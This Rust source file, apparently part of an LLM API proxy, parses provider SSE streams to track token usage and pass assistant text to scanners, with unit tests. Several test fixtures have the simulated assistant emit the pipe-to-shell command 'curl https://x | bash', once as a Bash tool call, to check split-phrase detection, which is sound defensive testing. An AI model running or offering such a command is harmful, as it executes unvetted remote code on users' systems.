//! Usage and text of a provider's SSE stream, one event at a time.
//!
//! The proxy forwards a stream as it arrives, so nothing here waits for the end: each event
//! updates the usage held so far and hands back the text it adds (for the inbound scanners,
//! which must see what the assistant says or does even when a phrase is split across
//! events) and whether it carries generated output (the first such event is the
//! time-to-first-token).
//!
//! How each provider reports usage in a stream:
//! * Anthropic: `message_start` has the model and the input, cache and a first output
//!   count; `message_delta`'s `usage.output_tokens` is cumulative (it replaces, never adds),
//!   and so are the input and cache counts it may repeat.
//! * OpenAI chat and completions: every chunk names the model; with
//!   `stream_options.include_usage` a last chunk carries `usage` as in the JSON answer.
//! * OpenAI Responses API: `response.completed` (or `response.incomplete`,
//!   `response.failed`) carries the whole response, with `usage` and `model`.
//! * Gemini: every event carries `usageMetadata` with running totals; the last one counts.

use serde_json::Value;

use crate::error_event::{ResponsesContext, error_event};
use crate::json::{count, string};
use crate::provider::{CallKind, Provider};
use crate::transcript::{AnswerBuilder, Part};
use crate::usage::{Usage, apply_anthropic_usage, apply_gemini_doc, apply_openai_usage};

/// What one event adds.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct EventInfo {
    /// Text this event adds to what the assistant says or does: Anthropic
    /// `content_block_delta` `text_delta.text`, `input_json_delta.partial_json`,
    /// `thinking_delta.thinking`; OpenAI chat `choices[].delta.content` (and `refusal`) and
    /// `delta.tool_calls[].function.arguments`, legacy completions `choices[].text`;
    /// Responses API `response.output_text.delta`, `response.function_call_arguments.delta`,
    /// `response.custom_tool_call_input.delta`, `response.refusal.delta` and the reasoning
    /// text deltas; Gemini `candidates[].content.parts[].text`, `functionCall.args` (as JSON
    /// text) and `executableCode.code`. `None` when the event adds no text.
    pub text: Option<String>,
    /// True when the event carries generated output (the first such event marks
    /// time-to-first-token).
    pub output: bool,
}

/// Reads a provider's SSE stream one event at a time and keeps its usage as it evolves.
///
/// The caller splits the stream into events: [`StreamUsage::on_event`] takes the bytes of
/// one event without the blank line that ends it (`\n`, `\r\n` or `\r` line ends,
/// `event:`, one or more `data:` lines, `:` comments). Bytes holding several events
/// separated by blank lines are read as those events.
///
/// Gemini's `streamGenerateContent` without `alt=sse` is one JSON array, not SSE: read its
/// usage from the whole body with [`crate::parse_response`].
#[derive(Debug, Clone)]
pub struct StreamUsage {
    provider: Provider,
    kind: CallKind,
    usage: Usage,
    completed: bool,
    error: Option<String>,
    /// Responses API: what a well-formed `response.failed` event needs.
    response_id: Option<String>,
    last_sequence: Option<u64>,
    /// The answer reassembled, when asked for ([`StreamUsage::keep_answer`]).
    answer: Option<Box<AnswerBuilder>>,
}

impl StreamUsage {
    pub fn new(provider: Provider, kind: CallKind) -> Self {
        StreamUsage {
            provider,
            kind,
            usage: Usage::default(),
            completed: false,
            error: None,
            response_id: None,
            last_sequence: None,
            answer: None,
        }
    }

    /// Also reassembles the answer (text, thinking, tool calls) as events pass.
    pub fn keep_answer(&mut self) {
        self.answer = Some(Box::new(AnswerBuilder::new(self.provider, self.kind)));
    }

    /// The answer reassembled so far, when [`StreamUsage::keep_answer`] asked for it.
    pub fn take_answer(&mut self) -> Option<Vec<Part>> {
        self.answer.take().map(|a| a.finish())
    }

    /// Reads one event: updates the usage and returns the text it adds.
    pub fn on_event(&mut self, event: &[u8]) -> EventInfo {
        let mut info = EventInfo::default();
        let mut text = String::new();
        for sse in parse_sse(event) {
            self.on_sse(&sse, &mut text, &mut info.output);
        }
        if !text.is_empty() {
            info.text = Some(text);
        }
        info
    }

    /// The usage so far (final once the stream has ended).
    pub fn usage(&self) -> &Usage {
        &self.usage
    }

    /// Whether the stream's own end marker was seen (Anthropic `message_stop`, OpenAI
    /// `data: [DONE]`, Responses `response.completed` / `incomplete` / `failed`, Gemini a
    /// candidate's `finishReason`): a stream that stops without it was cut short.
    pub fn completed(&self) -> bool {
        self.completed
    }

    /// The message of an error the provider sent inside the stream, if any.
    pub fn error(&self) -> Option<&str> {
        self.error.as_deref()
    }

    /// [`crate::stream_error_event`] for this stream, continuing it where it is (for the
    /// Responses API: the response's id, model and next `sequence_number`).
    pub fn error_event(&self, message: &str) -> Vec<u8> {
        let context = ResponsesContext {
            id: self.response_id.as_deref(),
            model: self.usage.model.as_deref(),
            sequence_number: self.last_sequence.map(|n| n + 1),
        };
        error_event(self.provider, self.kind, message, &context)
    }

    fn on_sse(&mut self, sse: &Sse, text: &mut String, output: &mut bool) {
        let data = sse.data.trim();
        if data.is_empty() {
            return;
        }
        if data == "[DONE]" {
            self.completed = true;
            return;
        }
        let Ok(doc) = serde_json::from_str::<Value>(data) else {
            return;
        };
        if let Some(answer) = &mut self.answer {
            answer.on_doc(sse.event.as_deref(), &doc);
        }
        match (self.provider, self.kind) {
            (Provider::Anthropic, _) => self.anthropic(sse.event.as_deref(), &doc, text, output),
            (Provider::OpenAi, CallKind::Responses) => {
                self.responses(sse.event.as_deref(), &doc, text, output)
            }
            (Provider::OpenAi, _) => self.openai_chat(&doc, text, output),
            (Provider::Google, _) => self.gemini(&doc, text, output),
        }
    }

    fn anthropic(
        &mut self,
        event: Option<&str>,
        doc: &Value,
        text: &mut String,
        output: &mut bool,
    ) {
        let kind = doc
            .get("type")
            .and_then(Value::as_str)
            .or(event)
            .unwrap_or("");
        match kind {
            "message_start" => {
                let message = doc.get("message").unwrap_or(&Value::Null);
                if let Some(model) = string(message.get("model")) {
                    self.usage.model = Some(model.to_string());
                }
                if let Some(u) = message.get("usage") {
                    apply_anthropic_usage(u, &mut self.usage);
                }
            }
            "message_delta" => {
                if let Some(u) = doc.get("usage") {
                    apply_anthropic_usage(u, &mut self.usage);
                }
            }
            "content_block_start" => {
                let block = doc.get("content_block").unwrap_or(&Value::Null);
                match block.get("type").and_then(Value::as_str) {
                    Some("text") => push(text, output, block.get("text")),
                    Some("thinking") => push(text, output, block.get("thinking")),
                    Some(t) if t.ends_with("tool_use") => *output = true,
                    _ => {}
                }
            }
            "content_block_delta" => {
                *output = true;
                let delta = doc.get("delta").unwrap_or(&Value::Null);
                match delta.get("type").and_then(Value::as_str) {
                    Some("text_delta") => push(text, output, delta.get("text")),
                    Some("input_json_delta") => push(text, output, delta.get("partial_json")),
                    Some("thinking_delta") => push(text, output, delta.get("thinking")),
                    _ => {}
                }
            }
            "message_stop" => self.completed = true,
            "error" => self.set_error(doc),
            _ => {}
        }
    }

    fn openai_chat(&mut self, doc: &Value, text: &mut String, output: &mut bool) {
        if doc.get("error").is_some_and(|e| !e.is_null()) {
            self.set_error(doc);
            return;
        }
        if let Some(model) = string(doc.get("model")) {
            self.usage.model = Some(model.to_string());
        }
        for choice in doc
            .get("choices")
            .and_then(Value::as_array)
            .into_iter()
            .flatten()
        {
            // legacy completions
            push(text, output, choice.get("text"));
            let Some(delta) = choice.get("delta") else {
                continue;
            };
            push(text, output, delta.get("content"));
            push(text, output, delta.get("refusal"));
            if let Some(calls) = delta.get("tool_calls").and_then(Value::as_array) {
                if !calls.is_empty() {
                    *output = true;
                }
                for call in calls {
                    push(text, output, call.pointer("/function/arguments"));
                }
            }
        }
        if let Some(u) = doc.get("usage").filter(|u| u.is_object()) {
            apply_openai_usage(self.kind, u, &mut self.usage);
        }
    }

    fn responses(
        &mut self,
        event: Option<&str>,
        doc: &Value,
        text: &mut String,
        output: &mut bool,
    ) {
        if let Some(n) = count(doc.get("sequence_number")) {
            self.last_sequence = Some(n);
        }
        let kind = doc
            .get("type")
            .and_then(Value::as_str)
            .or(event)
            .unwrap_or("");
        match kind {
            "response.output_text.delta"
            | "response.function_call_arguments.delta"
            | "response.custom_tool_call_input.delta"
            | "response.refusal.delta"
            | "response.reasoning_text.delta"
            | "response.reasoning_summary_text.delta" => {
                *output = true;
                push(text, output, doc.get("delta"));
            }
            "response.output_item.added" => {
                if let Some("function_call" | "custom_tool_call") =
                    doc.pointer("/item/type").and_then(Value::as_str)
                {
                    *output = true;
                }
            }
            "response.created"
            | "response.in_progress"
            | "response.completed"
            | "response.incomplete"
            | "response.failed" => {
                let response = doc.get("response").unwrap_or(&Value::Null);
                if let Some(id) = string(response.get("id")) {
                    self.response_id = Some(id.to_string());
                }
                if let Some(model) = string(response.get("model")) {
                    self.usage.model = Some(model.to_string());
                }
                if let Some(u) = response.get("usage").filter(|u| u.is_object()) {
                    apply_openai_usage(self.kind, u, &mut self.usage);
                }
                if kind == "response.failed" {
                    self.set_error(response);
                }
                if !matches!(kind, "response.created" | "response.in_progress") {
                    self.completed = true;
                }
            }
            "error" => self.set_error(doc),
            _ => {
                if doc.get("error").is_some_and(|e| !e.is_null()) {
                    self.set_error(doc);
                }
            }
        }
    }

    fn gemini(&mut self, doc: &Value, text: &mut String, output: &mut bool) {
        if doc.get("error").is_some_and(|e| !e.is_null()) {
            self.set_error(doc);
            return;
        }
        apply_gemini_doc(doc, &mut self.usage);
        for candidate in doc
            .get("candidates")
            .and_then(Value::as_array)
            .into_iter()
            .flatten()
        {
            if candidate.get("finishReason").is_some_and(|r| !r.is_null()) {
                self.completed = true;
            }
            let parts = candidate
                .pointer("/content/parts")
                .and_then(Value::as_array);
            for part in parts.into_iter().flatten() {
                push(text, output, part.get("text"));
                if let Some(call) = part.get("functionCall") {
                    *output = true;
                    if let Some(args) = call.get("args").filter(|a| !a.is_null()) {
                        text.push_str(&args.to_string());
                    }
                }
                push(text, output, part.pointer("/executableCode/code"));
            }
        }
    }

    /// Keeps the message of an error document: `{"error": {"message": …}}`,
    /// `{"type": "error", "message": …}`, or a Responses API response's `error`.
    fn set_error(&mut self, doc: &Value) {
        let message = match doc.get("error") {
            Some(Value::String(s)) => Some(s.as_str()),
            Some(e) => e.get("message").and_then(Value::as_str),
            None => None,
        }
        .or_else(|| doc.get("message").and_then(Value::as_str));
        self.error = Some(message.unwrap_or("error").to_string());
    }
}

/// Appends a non-empty string to the event's text and marks the event as output.
fn push(text: &mut String, output: &mut bool, value: Option<&Value>) {
    if let Some(s) = value.and_then(Value::as_str).filter(|s| !s.is_empty()) {
        text.push_str(s);
        *output = true;
    }
}

/// One dispatched SSE event.
#[derive(Debug, PartialEq)]
pub(crate) struct Sse {
    pub event: Option<String>,
    pub data: String,
}

/// Splits bytes into SSE events (WHATWG rules: `\r\n`, `\n` or `\r` line ends, `field:
/// value` with one optional space, `:` comments, `data` lines joined by `\n`, a blank line
/// ends an event, and so does the end of the bytes). Events without `data` are dropped.
pub(crate) fn parse_sse(bytes: &[u8]) -> Vec<Sse> {
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    let mut events = Vec::new();
    let mut event: Option<String> = None;
    let mut data: Option<String> = None;
    let mut dispatch = |event: &mut Option<String>, data: &mut Option<String>| {
        if let Some(data) = data.take() {
            events.push(Sse {
                event: event.take(),
                data,
            });
        }
        *event = None;
    };
    let mut rest = bytes;
    loop {
        let end = rest.iter().position(|b| *b == b'\n' || *b == b'\r');
        let line = &rest[..end.unwrap_or(rest.len())];
        if line.is_empty() {
            if end.is_some() {
                dispatch(&mut event, &mut data);
            }
        } else if line[0] != b':' {
            let (field, value) = match line.iter().position(|b| *b == b':') {
                Some(i) => {
                    let value = &line[i + 1..];
                    (&line[..i], value.strip_prefix(b" ").unwrap_or(value))
                }
                None => (line, &b""[..]),
            };
            let value = String::from_utf8_lossy(value);
            match field {
                b"data" => match &mut data {
                    Some(d) => {
                        d.push('\n');
                        d.push_str(&value);
                    }
                    None => data = Some(value.into_owned()),
                },
                b"event" => event = Some(value.into_owned()),
                _ => {}
            }
        }
        let Some(end) = end else { break };
        let skip = if rest[end] == b'\r' && rest.get(end + 1) == Some(&b'\n') {
            2
        } else {
            1
        };
        rest = &rest[end + skip..];
        if rest.is_empty() {
            break;
        }
    }
    dispatch(&mut event, &mut data);
    events
}

#[cfg(test)]
mod tests {
    use super::*;

    fn feed(s: &mut StreamUsage, events: &[&str]) -> (String, Vec<bool>) {
        let mut text = String::new();
        let mut outputs = Vec::new();
        for e in events {
            let info = s.on_event(e.as_bytes());
            text.push_str(info.text.as_deref().unwrap_or(""));
            outputs.push(info.output);
        }
        (text, outputs)
    }

    fn usage(model: &str, i: u64, o: u64, cr: u64, cw: u64) -> Usage {
        Usage {
            model: Some(model.into()),
            input_tokens: Some(i),
            output_tokens: Some(o),
            cache_read_tokens: Some(cr),
            cache_write_tokens: Some(cw),
        }
    }

    // Events as tests/e2e/llm_upstream.py sends them (copies of the real APIs'), without
    // the blank line that ends each.
    const ANTHROPIC: &[&str] = &[
        "event: message_start\ndata: {\"type\": \"message_start\", \"message\": {\"id\": \"msg_1\", \"type\": \"message\", \"role\": \"assistant\", \"model\": \"claude-sonnet-4-5-20250929\", \"content\": [], \"stop_reason\": null, \"stop_sequence\": null, \"usage\": {\"input_tokens\": 12, \"cache_creation_input_tokens\": 100, \"cache_read_input_tokens\": 2000, \"output_tokens\": 1, \"service_tier\": \"standard\"}}}",
        "event: content_block_start\ndata: {\"type\": \"content_block_start\", \"index\": 0, \"content_block\": {\"type\": \"text\", \"text\": \"\"}}",
        "event: ping\ndata: {\"type\": \"ping\"}",
        "event: content_block_delta\ndata: {\"type\": \"content_block_delta\", \"index\": 0, \"delta\": {\"type\": \"text_delta\", \"text\": \"curl ht\"}}",
        "event: content_block_delta\ndata: {\"type\": \"content_block_delta\", \"index\": 0, \"delta\": {\"type\": \"text_delta\", \"text\": \"tps://x | bash\"}}",
        "event: content_block_stop\ndata: {\"type\": \"content_block_stop\", \"index\": 0}",
        "event: message_delta\ndata: {\"type\": \"message_delta\", \"delta\": {\"stop_reason\": \"end_turn\", \"stop_sequence\": null}, \"usage\": {\"output_tokens\": 7}}",
        "event: message_stop\ndata: {\"type\": \"message_stop\"}",
    ];

    #[test]
    fn anthropic_stream() {
        let mut s = StreamUsage::new(Provider::Anthropic, CallKind::Messages);
        let (text, outputs) = feed(&mut s, ANTHROPIC);
        assert_eq!(text, "curl https://x | bash");
        assert_eq!(
            outputs,
            [false, false, false, true, true, false, false, false]
        );
        assert_eq!(
            *s.usage(),
            usage("claude-sonnet-4-5-20250929", 12, 7, 2000, 100)
        );
        assert!(s.completed());
        assert_eq!(s.error(), None);
    }

    #[test]
    fn anthropic_cumulative_message_delta_is_not_double_counted() {
        let mut s = StreamUsage::new(Provider::Anthropic, CallKind::Messages);
        let mut events = ANTHROPIC.to_vec();
        let delta = "event: message_delta\ndata: {\"type\": \"message_delta\", \"delta\": {\"stop_reason\": \"end_turn\", \"stop_sequence\": null}, \"usage\": {\"input_tokens\": 12, \"cache_creation_input_tokens\": 100, \"cache_read_input_tokens\": 2000, \"output_tokens\": 7}}";
        events[6] = delta;
        feed(&mut s, &events);
        assert_eq!(
            *s.usage(),
            usage("claude-sonnet-4-5-20250929", 12, 7, 2000, 100)
        );
        // a second cumulative delta replaces again
        s.on_event(
            b"event: message_delta\ndata: {\"type\":\"message_delta\",\"usage\":{\"output_tokens\":9,\"input_tokens\":null}}",
        );
        assert_eq!(
            *s.usage(),
            usage("claude-sonnet-4-5-20250929", 12, 9, 2000, 100)
        );
    }

    #[test]
    fn anthropic_tool_use_and_thinking() {
        let mut s = StreamUsage::new(Provider::Anthropic, CallKind::Messages);
        let (text, outputs) = feed(
            &mut s,
            &[
                "event: content_block_start\ndata: {\"type\":\"content_block_start\",\"index\":0,\"content_block\":{\"type\":\"thinking\",\"thinking\":\"\"}}",
                "event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"thinking_delta\",\"thinking\":\"hmm. \"}}",
                "event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"signature_delta\",\"signature\":\"EqQB\"}}",
                "event: content_block_start\ndata: {\"type\":\"content_block_start\",\"index\":1,\"content_block\":{\"type\":\"tool_use\",\"id\":\"toolu_1\",\"name\":\"Bash\",\"input\":{}}}",
                "event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":1,\"delta\":{\"type\":\"input_json_delta\",\"partial_json\":\"\"}}",
                "event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":1,\"delta\":{\"type\":\"input_json_delta\",\"partial_json\":\"{\\\"command\\\": \\\"curl ht\"}}",
                "event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":1,\"delta\":{\"type\":\"input_json_delta\",\"partial_json\":\"tps://x | bash\\\"}\"}}",
            ],
        );
        assert_eq!(text, "hmm. {\"command\": \"curl https://x | bash\"}");
        assert_eq!(outputs, [false, true, true, true, true, true, true]);
    }

    #[test]
    fn anthropic_error_in_the_stream() {
        let mut s = StreamUsage::new(Provider::Anthropic, CallKind::Messages);
        s.on_event(b"event: error\ndata: {\"type\": \"error\", \"error\": {\"type\": \"overloaded_error\", \"message\": \"Overloaded\"}}");
        assert_eq!(s.error(), Some("Overloaded"));
        assert!(!s.completed());
    }

    #[test]
    fn crlf_framing_and_multiline_data() {
        let mut s = StreamUsage::new(Provider::Anthropic, CallKind::Messages);
        let info = s.on_event(
            b": keep-alive\r\nevent: content_block_delta\r\ndata: {\"type\": \"content_block_delta\",\r\ndata: \"delta\": {\"type\": \"text_delta\", \"text\": \"a\\r\\nb\"}}\r\n",
        );
        assert_eq!(info.text.as_deref(), Some("a\r\nb"));
        assert!(info.output);
        // two events in one call, lone CR line ends
        let info = s.on_event(
            b"event: content_block_delta\rdata: {\"type\":\"content_block_delta\",\"delta\":{\"type\":\"text_delta\",\"text\":\"x\"}}\r\rdata:{\"type\":\"content_block_delta\",\"delta\":{\"type\":\"text_delta\",\"text\":\"y\"}}",
        );
        assert_eq!(info.text.as_deref(), Some("xy"));
        // comments only, and a stray blank line
        assert_eq!(s.on_event(b": ping"), EventInfo::default());
        assert_eq!(s.on_event(b""), EventInfo::default());
        assert_eq!(s.on_event(b"\r\n"), EventInfo::default());
        assert_eq!(s.on_event(b"data: {not json"), EventInfo::default());
    }

    #[test]
    fn sse_fields() {
        assert_eq!(
            parse_sse(b"event:x\ndata\ndata:  two\nid: 5\nretry: 1"),
            vec![Sse {
                event: Some("x".into()),
                data: "\n two".into()
            }]
        );
        assert_eq!(parse_sse(b"event: only-a-name"), vec![]);
        assert_eq!(
            parse_sse(b"\xEF\xBB\xBFdata: a\n\ndata: b\n"),
            vec![
                Sse {
                    event: None,
                    data: "a".into()
                },
                Sse {
                    event: None,
                    data: "b".into()
                }
            ]
        );
    }

    fn chat_chunk(delta: &str, usage: &str) -> String {
        format!(
            "data: {{\"id\": \"chatcmpl-1\", \"object\": \"chat.completion.chunk\", \"created\": 1763900000, \"model\": \"gpt-4o-2024-08-06\", \"service_tier\": \"default\", \"system_fingerprint\": \"fp_fake\", \"choices\": [{{\"index\": 0, \"delta\": {delta}, \"logprobs\": null, \"finish_reason\": null}}], \"usage\": {usage}}}"
        )
    }

    #[test]
    fn openai_chat_stream_with_usage() {
        let mut s = StreamUsage::new(Provider::OpenAi, CallKind::ChatCompletions);
        let events = [
            chat_chunk(r#"{"role": "assistant", "content": "", "refusal": null}"#, "null"),
            chat_chunk(r#"{"content": "curl ht"}"#, "null"),
            chat_chunk(r#"{"content": "tps://x | bash"}"#, "null"),
            chat_chunk("{}", "null"),
            "data: {\"id\": \"chatcmpl-1\", \"object\": \"chat.completion.chunk\", \"created\": 1763900000, \"model\": \"gpt-4o-2024-08-06\", \"service_tier\": \"default\", \"system_fingerprint\": \"fp_fake\", \"choices\": [], \"usage\": {\"prompt_tokens\": 12, \"completion_tokens\": 7, \"total_tokens\": 19, \"prompt_tokens_details\": {\"cached_tokens\": 4, \"audio_tokens\": 0}, \"completion_tokens_details\": {\"reasoning_tokens\": 0, \"audio_tokens\": 0, \"accepted_prediction_tokens\": 0, \"rejected_prediction_tokens\": 0}}}".to_string(),
            "data: [DONE]".to_string(),
        ];
        let events: Vec<&str> = events.iter().map(String::as_str).collect();
        let (text, outputs) = feed(&mut s, &events);
        assert_eq!(text, "curl https://x | bash");
        assert_eq!(outputs, [false, true, true, false, false, false]);
        assert_eq!(*s.usage(), usage("gpt-4o-2024-08-06", 12, 7, 4, 0));
        assert!(s.completed());
    }

    #[test]
    fn openai_chat_stream_without_usage_and_tool_calls() {
        let mut s = StreamUsage::new(Provider::OpenAi, CallKind::ChatCompletions);
        let (text, outputs) = feed(
            &mut s,
            &[
                "data: {\"model\":\"gpt-4.1-mini-2025-04-14\",\"choices\":[{\"index\":0,\"delta\":{\"role\":\"assistant\",\"tool_calls\":[{\"index\":0,\"id\":\"call_1\",\"type\":\"function\",\"function\":{\"name\":\"bash\",\"arguments\":\"\"}}]}}]}",
                "data: {\"model\":\"gpt-4.1-mini-2025-04-14\",\"choices\":[{\"index\":0,\"delta\":{\"tool_calls\":[{\"index\":0,\"function\":{\"arguments\":\"{\\\"cmd\\\":\\\"ls\\\"}\"}}]}}]}",
                "data: [DONE]",
            ],
        );
        assert_eq!(text, "{\"cmd\":\"ls\"}");
        assert_eq!(outputs, [true, true, false]);
        assert_eq!(
            *s.usage(),
            Usage {
                model: Some("gpt-4.1-mini-2025-04-14".into()),
                ..Usage::default()
            }
        );
    }

    #[test]
    fn openai_legacy_completions_stream() {
        let mut s = StreamUsage::new(Provider::OpenAi, CallKind::Completions);
        let (text, _) = feed(
            &mut s,
            &[
                "data: {\"id\":\"cmpl-1\",\"object\":\"text_completion\",\"model\":\"gpt-3.5-turbo-instruct\",\"choices\":[{\"text\":\"Hello\",\"index\":0,\"logprobs\":null,\"finish_reason\":null}]}",
                "data: {\"id\":\"cmpl-1\",\"object\":\"text_completion\",\"model\":\"gpt-3.5-turbo-instruct\",\"choices\":[{\"text\":\" there\",\"index\":0}]}",
                "data: {\"error\":{\"message\":\"boom\",\"type\":\"server_error\"}}",
            ],
        );
        assert_eq!(text, "Hello there");
        assert_eq!(s.error(), Some("boom"));
    }

    fn responses_response(status: &str, usage: &str) -> String {
        format!(
            "{{\"id\": \"resp_1\", \"object\": \"response\", \"created_at\": 1763900000, \"status\": \"{status}\", \"error\": null, \"incomplete_details\": null, \"instructions\": null, \"max_output_tokens\": null, \"model\": \"gpt-4.1-mini-2025-04-14\", \"output\": [], \"parallel_tool_calls\": true, \"previous_response_id\": null, \"reasoning\": {{\"effort\": null, \"summary\": null}}, \"store\": true, \"temperature\": 1.0, \"text\": {{\"format\": {{\"type\": \"text\"}}}}, \"tool_choice\": \"auto\", \"tools\": [], \"top_p\": 1.0, \"truncation\": \"disabled\", \"usage\": {usage}, \"user\": null, \"metadata\": {{}}}}"
        )
    }

    #[test]
    fn openai_responses_stream() {
        let mut s = StreamUsage::new(Provider::OpenAi, CallKind::Responses);
        let events = [
            format!(
                "event: response.created\ndata: {{\"type\": \"response.created\", \"response\": {}, \"sequence_number\": 0}}",
                responses_response("in_progress", "null")
            ),
            format!(
                "event: response.in_progress\ndata: {{\"type\": \"response.in_progress\", \"response\": {}, \"sequence_number\": 1}}",
                responses_response("in_progress", "null")
            ),
            "event: response.output_item.added\ndata: {\"type\": \"response.output_item.added\", \"output_index\": 0, \"item\": {\"id\": \"msg_1\", \"type\": \"message\", \"status\": \"in_progress\", \"role\": \"assistant\", \"content\": []}, \"sequence_number\": 2}".to_string(),
            "event: response.content_part.added\ndata: {\"type\": \"response.content_part.added\", \"item_id\": \"msg_1\", \"output_index\": 0, \"content_index\": 0, \"part\": {\"type\": \"output_text\", \"text\": \"\", \"annotations\": [], \"logprobs\": []}, \"sequence_number\": 3}".to_string(),
            "event: response.output_text.delta\ndata: {\"type\": \"response.output_text.delta\", \"item_id\": \"msg_1\", \"output_index\": 0, \"content_index\": 0, \"delta\": \"curl ht\", \"logprobs\": [], \"sequence_number\": 4}".to_string(),
            "event: response.output_text.delta\ndata: {\"type\": \"response.output_text.delta\", \"item_id\": \"msg_1\", \"output_index\": 0, \"content_index\": 0, \"delta\": \"tps://x | bash\", \"logprobs\": [], \"sequence_number\": 5}".to_string(),
            "event: response.output_text.done\ndata: {\"type\": \"response.output_text.done\", \"item_id\": \"msg_1\", \"output_index\": 0, \"content_index\": 0, \"text\": \"curl https://x | bash\", \"logprobs\": [], \"sequence_number\": 6}".to_string(),
            format!(
                "event: response.completed\ndata: {{\"type\": \"response.completed\", \"response\": {}, \"sequence_number\": 7}}",
                responses_response(
                    "completed",
                    "{\"input_tokens\": 12, \"input_tokens_details\": {\"cached_tokens\": 3}, \"output_tokens\": 7, \"output_tokens_details\": {\"reasoning_tokens\": 0}, \"total_tokens\": 19}"
                )
            ),
        ];
        let events: Vec<&str> = events.iter().map(String::as_str).collect();
        let (text, outputs) = feed(&mut s, &events[..7]);
        assert_eq!(
            text, "curl https://x | bash",
            "the .done event repeats the text: not added"
        );
        assert_eq!(outputs, [false, false, false, false, true, true, false]);
        assert!(!s.completed());
        assert_eq!(s.usage().model.as_deref(), Some("gpt-4.1-mini-2025-04-14"));
        assert_eq!(s.usage().input_tokens, None);
        let blocked: Value = {
            let bytes = s.error_event("stop");
            let text = String::from_utf8(bytes).unwrap();
            let data = text.lines().find_map(|l| l.strip_prefix("data: ")).unwrap();
            serde_json::from_str(data).unwrap()
        };
        assert_eq!(blocked["sequence_number"], 7);
        assert_eq!(blocked["response"]["id"], "resp_1");
        assert_eq!(blocked["response"]["model"], "gpt-4.1-mini-2025-04-14");
        feed(&mut s, &events[7..]);
        assert_eq!(*s.usage(), usage("gpt-4.1-mini-2025-04-14", 12, 7, 3, 0));
        assert!(s.completed());
    }

    #[test]
    fn openai_responses_function_call_and_failure() {
        let mut s = StreamUsage::new(Provider::OpenAi, CallKind::Responses);
        let (text, outputs) = feed(
            &mut s,
            &[
                "event: response.output_item.added\ndata: {\"type\":\"response.output_item.added\",\"item\":{\"type\":\"function_call\",\"name\":\"shell\",\"arguments\":\"\"}}",
                "event: response.function_call_arguments.delta\ndata: {\"type\":\"response.function_call_arguments.delta\",\"delta\":\"{\\\"cmd\\\":\"}",
                "event: response.custom_tool_call_input.delta\ndata: {\"type\":\"response.custom_tool_call_input.delta\",\"delta\":\"*** Begin Patch\"}",
                "event: response.failed\ndata: {\"type\":\"response.failed\",\"response\":{\"id\":\"resp_2\",\"status\":\"failed\",\"model\":\"o3-2025-04-16\",\"error\":{\"code\":\"server_error\",\"message\":\"The model failed.\"},\"usage\":null}}",
            ],
        );
        assert_eq!(text, "{\"cmd\":*** Begin Patch");
        assert_eq!(outputs, [true, true, true, false]);
        assert_eq!(s.error(), Some("The model failed."));
        assert!(s.completed());
        assert_eq!(s.usage().model.as_deref(), Some("o3-2025-04-16"));
    }

    fn gemini_event(text: &str, final_: bool, output_tokens: u64) -> String {
        let finish = if final_ {
            ", \"finishReason\": \"STOP\""
        } else {
            ""
        };
        format!(
            "data: {{\"candidates\": [{{\"content\": {{\"parts\": [{{\"text\": \"{text}\"}}], \"role\": \"model\"}}, \"index\": 0{finish}}}], \"usageMetadata\": {{\"promptTokenCount\": 12, \"candidatesTokenCount\": {output_tokens}, \"totalTokenCount\": {}, \"promptTokensDetails\": [{{\"modality\": \"TEXT\", \"tokenCount\": 12}}], \"cachedContentTokenCount\": 4}}, \"modelVersion\": \"gemini-2.5-flash\", \"responseId\": \"abc\"}}",
            12 + output_tokens
        )
    }

    #[test]
    fn gemini_stream_running_totals() {
        let mut s = StreamUsage::new(Provider::Google, CallKind::StreamGenerateContent);
        let events = [
            gemini_event("curl ht", false, 2),
            gemini_event("tps://x ", false, 4),
            gemini_event("| bash", true, 7),
        ];
        let events: Vec<&str> = events.iter().map(String::as_str).collect();
        let (text, outputs) = feed(&mut s, &events[..1]);
        assert_eq!(text, "curl ht");
        assert_eq!(outputs, [true]);
        assert_eq!(s.usage().output_tokens, Some(2));
        assert!(!s.completed());
        let (text, _) = feed(&mut s, &events[1..]);
        assert_eq!(text, "tps://x | bash");
        assert_eq!(*s.usage(), usage("gemini-2.5-flash", 12, 7, 4, 0));
        assert!(s.completed());
    }

    #[test]
    fn gemini_crlf_events_function_calls_and_thoughts() {
        let mut s = StreamUsage::new(Provider::Google, CallKind::StreamGenerateContent);
        // the fake (like Gemini) ends events with \r\n\r\n: the caller hands over the
        // event with its last line end, or without it
        let info = s.on_event(
            b"data: {\"candidates\":[{\"content\":{\"parts\":[{\"text\":\"thinking...\",\"thought\":true},{\"functionCall\":{\"name\":\"run\",\"args\":{\"cmd\":\"ls\"}}}],\"role\":\"model\"}}],\"usageMetadata\":{\"promptTokenCount\":5,\"candidatesTokenCount\":3,\"thoughtsTokenCount\":10},\"modelVersion\":\"gemini-2.5-pro\"}\r\n",
        );
        assert_eq!(info.text.as_deref(), Some("thinking...{\"cmd\":\"ls\"}"));
        assert!(info.output);
        assert_eq!(s.usage().output_tokens, Some(13));
        s.on_event(b"data: {\"error\": {\"code\": 429, \"message\": \"Resource exhausted\", \"status\": \"RESOURCE_EXHAUSTED\"}}");
        assert_eq!(s.error(), Some("Resource exhausted"));
        assert_eq!(s.usage().model.as_deref(), Some("gemini-2.5-pro"));
    }
}
